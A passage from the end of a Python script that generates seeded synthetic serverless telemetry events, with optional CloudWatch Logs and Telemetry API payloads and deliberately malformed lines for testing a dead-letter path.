        return dumps(dict(base("gpu_usage", "thumbnailer", t), device="nvidia0", utilization=0.91))

    return [
        ("JSON syntax error (line cut short)", syntax),
        ("network event without its required remote_ip", missing),
        ('invocation with "duration_ms":"fast"', fast),
        ("unknown type gpu_usage", unknown),
    ]


# --------------------------------------------------------------------------- main


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, required=True, help="native events to write (exactly)")
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--out", required=True, help="output path; gzip when it ends in .gz")
    ap.add_argument("--with-shapes", action="store_true",
                    help="add CloudWatch Logs payloads and Telemetry API batches")
    ap.add_argument("--bad", action="store_true", help="add lines that must be dead-lettered")
    a = ap.parse_args()
    if a.events < 0:
        ap.error("--events must be >= 0")

    rng = random.Random(a.seed)
    extra = random.Random(f"fnwatch-extra-{a.seed}")
    account = make_account(rng)

    # Extra lines, each placed at the position its time belongs to (bad lines at random points).
    pending: list[tuple[float, str, str, dict, str]] = []  # (time ms, kind, description, rows, line)
    if a.with_shapes:
        for t, desc, rows, obj in cloudwatch_payloads(extra, account):
            pending.append((t, "cloudwatch", desc, rows, dumps(obj)))
        for t, desc, rows, batch in telemetry_batches(extra):
            pending.append((t, "telemetry_api", desc, rows, dumps(batch)))
    bads = []
    if a.bad:
        for reason, build in bad_lines(extra, account):
            bads.append((extra.randint(1, max(1, a.events)), reason, build))
    pending.sort(key=lambda p: p[0])
    bads.sort(key=lambda b: b[0])

    raw = open(a.out, "wb")
    out = gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=9) \
        if a.out.endswith(".gz") else raw
    counts: Counter[str] = Counter()
    bytes_native = 0
    line_no = 0
    total_bytes = 0
    report_lines: list[str] = []
    rows_from_shapes: Counter[str] = Counter()
    buf: list[str] = []

    def put(line: str) -> None:
        nonlocal line_no, total_bytes
        line_no += 1
        data = line + "\n"
        total_bytes += len(data.encode())
        buf.append(data)
        if len(buf) >= 4096:
            out.write("".join(buf).encode())
            buf.clear()

    native_i = 0
    t_ms = float(START_MS)
    for t_ms, ev in native_events(rng, account, a.events):
        while pending and pending[0][0] <= t_ms:
            _, kind, desc, rows, line = pending.pop(0)
            put(line)
            counts[kind] += 1
            rows_from_shapes.update(rows)
            report_lines.append(f"  line {line_no}: {desc}")
        while bads and bads[0][0] <= native_i:
            _, reason, build = bads.pop(0)
            put(build(t_ms))
            counts["bad"] += 1
            report_lines.append(f"  line {line_no}: bad: {reason}")
        line = dumps(ev)
        put(line)
        bytes_native += len(line) + 1
        counts[ev["type"]] += 1
        native_i += 1
    t_end = t_ms
    for _, kind, desc, rows, line in pending:
        put(line)
        counts[kind] += 1
        rows_from_shapes.update(rows)
        report_lines.append(f"  line {line_no}: {desc}")
    for _, reason, build in bads:
        put(build(t_end))
        counts["bad"] += 1
        report_lines.append(f"  line {line_no}: bad: {reason}")
    out.write("".join(buf).encode())
    if out is not raw:
        out.close()
    raw.close()

    native = sum(v for k, v in counts.items() if k not in ("cloudwatch", "telemetry_api", "bad"))
    err = sys.stderr
    print(f"wrote {a.out}: {line_no} lines, {total_bytes} bytes uncompressed", file=err)
    print(f"native events: {native}", file=err)
    for k in ("function_config", "invocation", "dns", "network", "process", "file", "api_call"):
        print(f"  {k:<16}{counts[k]:>9}  ({counts[k] / max(1, native):.1%})", file=err)
    if a.with_shapes:
        print(f"other shapes: {counts['cloudwatch']} CloudWatch Logs payload lines, "
              f"{counts['telemetry_api']} Telemetry API batch lines "
              f"(→ {rows_from_shapes['invocations']} invocation rows, {rows_from_shapes['logs']} log rows)",
              file=err)
    if a.bad:
        print(f"bad lines: {counts['bad']}", file=err)
    for r in report_lines:
        print(r, file=err)
    print(f"average line length: {total_bytes / max(1, line_no):.1f} bytes "
          f"(native events only: {bytes_native / max(1, native):.1f})", file=err)
    return 0


if __name__ == "__main__":
    sys.exit(main())
